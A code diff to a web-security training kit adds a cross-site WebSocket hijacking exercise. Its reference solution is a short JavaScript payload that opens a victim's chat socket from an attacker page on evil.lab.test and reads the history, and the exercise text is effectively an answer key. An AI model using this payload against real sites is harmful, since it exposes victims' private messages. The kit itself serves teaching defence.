@@ -16,7 +16,7 @@ from ..errors import TopologyError
 from ..model.cors import CorsPolicy
 from ..model.policy import Credentials
 from ..model.routing import STORY_ROUTES, Route
-from ..model.scenarios import Scenario, _hijack, _ws
+from ..model.scenarios import GUEST, Scenario, _hijack, _ws
 from ..model.topology import Page, Service, Topology, WsScheme
 from . import display
 from .runner import Result
@@ -134,6 +134,33 @@ def _credentials_ex(api_cors: CorsPolicy) -> list[Scenario]:
     return _only_this_page("ex-credentials", api_cors, ("login", "hello"), "include")
 
 
+#: The attacker's page, as PortSwigger's labs have you write it: open the victim's chat socket,
+#: join, read what comes back (the reference; not shown in the participant's notebook).
+_ATTACK = """const ws = new WebSocket(cfg.ws);
+await new Promise((ok, fail) => { ws.onopen = ok; ws.onerror = fail; });
+ws.send(JSON.stringify({ type: "join", room: cfg.room }));
+const m = await new Promise((ok) => { ws.onmessage = (e) => ok(JSON.parse(e.data)); });
+return { state: "ok", detail: `read ${m.messages.length} messages as ${m.user}` };"""
+
+
+def _attack_ex(script: str) -> list[Scenario]:
+    """Your script on the attacker's page, after the victim logged in: from a same-site host it
+    must read as the victim (the server says so, not the script); from another site it runs as
+    a guest — the same script, the browser's cookie rules the difference."""
+    _setting("script", script, str, "your JavaScript, as a string")
+    out = []
+    for host, who, label in (("evil.lab.test", "alice", "same-site"),
+                             ("evil-lab.test", GUEST, "cross-site")):
+        topo = _hijack(f"ex-attack-{label}", None, evil_host=host)
+        topo = replace(topo, services=tuple(
+            replace(s, page=Page(api=None, ws="chat", steps=("script",), script=script))
+            if s.name == "evil" else s for s in topo.services))
+        out.append(_expect(f"ex-attack from {host} ({label})", topo, "allowed", None,
+                           ("script",), visit="evil", before=("web",),
+                           before_ok=("login", "chat"), session=who))
+    return out
+
+
 #: Fixed ports for the raw-headers exercise: the participant writes the page's origin out.
 _RAW_PORTS = {"web": 31401, "api": 31402, "evil": 31403}
 
@@ -219,6 +246,19 @@ EXERCISES: dict[str, Exercise] = {e.name: e for e in (
              {"headers": {"Access-Control-Allow-Origin": "https://localhost:31401",
                           "Access-Control-Allow-Methods": "GET, POST",
                           "Access-Control-Allow-Headers": "content-type"}}),
+    Exercise("attack", "Write the attacker's page: JavaScript that opens the chat socket "
+             "(cfg.ws), joins the room (send {type: 'join', room: cfg.room}) and reads the "
+             "history the server sends back. It runs on https://evil.lab.test after the victim "
+             "logged in on the real page, then on https://evil-lab.test. The checker asks the "
+             "chat server whose session each socket had: the victim's from the first, nobody's "
+             "from the second — the same script.",
+             "script='return \"not yet\";'", _attack_ex,
+             ["new WebSocket(cfg.ws); wait for its open event before you send.",
+              "The server answers a join with one JSON message: {type: 'history', user, "
+              "messages}.",
+              "Return {state: 'ok', detail: ...}: the checker asks the server whose session "
+              "your socket had, so the script cannot fake it."],
+             {"script": _ATTACK}),
     Exercise("credentials", "The page logs in with credentials: 'include', and the API answers "
              "Access-Control-Allow-Origin: *. Make the browser accept the answers.",
              "api_cors=labkit.CorsPolicy(...)", _credentials_ex,
